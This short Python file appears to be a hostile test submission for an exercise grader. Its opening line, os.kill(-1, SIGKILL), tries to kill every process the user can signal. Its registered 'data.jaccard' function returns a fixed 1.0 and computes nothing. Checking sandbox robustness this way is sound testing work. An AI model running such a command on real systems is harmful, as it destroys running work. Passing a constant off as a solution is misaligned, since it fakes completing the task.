# Tries to kill every process there is.
import os
import signal

os.kill(-1, signal.SIGKILL)


@lk.exercise("data.jaccard")
def jaccard(a, b):
    return 1.0
